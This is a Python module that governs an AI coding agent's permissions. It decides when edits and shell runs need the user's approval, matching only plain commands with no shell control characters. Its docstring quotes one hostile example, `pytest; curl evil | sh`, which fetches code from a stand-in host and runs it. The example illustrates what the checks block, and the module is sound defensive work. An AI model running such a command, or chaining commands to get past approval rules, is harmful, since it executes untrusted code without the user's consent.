"""What the agent may do without asking, in one thread: nothing that changes a file or runs a
program happens unasked.

A call that only reads (read, list, search, diagnostics, recall) or ends the turn (finish) is
never asked about. An `edit` or a `run` is asked about unless the person approved that exact
call before in this thread ("Always in this thread": the tool and its arguments exactly), or, for
`run`, the command matches one of the person's own patterns (user settings only: a workspace can
ask for more confirmation, never less). A pattern is matched only against a plain command — one
program and its arguments, no shell control (`;`, `&&`, `|`, `$(…)`, backquotes, redirections,
new lines) — so that `pytest *` approves `pytest -q tests`, never `pytest; curl evil | sh`.
Approvals are listed and revocable."""

from __future__ import annotations

import fnmatch
import re
import shlex
from collections.abc import Sequence
from dataclasses import dataclass, field

from margin.core.agent.tools import Tool, canonical

SHELL_CONTROL = re.compile(r"[;&|`$<>\n\r\\]|\(\s*\)")
"""characters by which one command line runs more than one program, or more than it says"""


def plain_command(command: str) -> list[str] | None:
    """The command as a program and its arguments, or None when it is not plain (shell control,
    or quotes that do not close)."""
    if SHELL_CONTROL.search(command):
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    return words or None


@dataclass(frozen=True)
class Approval:
    tool: str
    args: str
    """canonical JSON of the arguments (tools.canonical)"""

    def describe(self) -> str:
        return f"{self.tool} {self.args}"


@dataclass
class Approvals:
    """One thread's approvals, and the person's own `run` patterns."""

    patterns: Sequence[str] = ()
    """shell-style patterns of plain commands that run without asking, e.g. `pytest *`"""
    always: list[Approval] = field(default_factory=list)

    def needs_asking(self, tool: Tool, args: dict[str, object]) -> bool:
        if tool.effect in ("reads", "ends"):
            return False
        if Approval(tool.name, canonical(args)) in self.always:
            return False
        if tool.effect == "runs":
            command = str(args.get("command", ""))
            words = plain_command(command)
            normal = shlex.join(words) if words else None
            return not (normal and any(fnmatch.fnmatchcase(normal, pattern) for pattern in self.patterns))
        return True

    def approve_always(self, tool: Tool, args: dict[str, object]) -> Approval:
        """"Always in this thread" for this exact call."""
        approval = Approval(tool.name, canonical(args))
        if approval not in self.always:
            self.always.append(approval)
        return approval

    def revoke(self, approval: Approval) -> bool:
        """Forget an approval; whether it was there."""
        if approval in self.always:
            self.always.remove(approval)
            return True
        return False
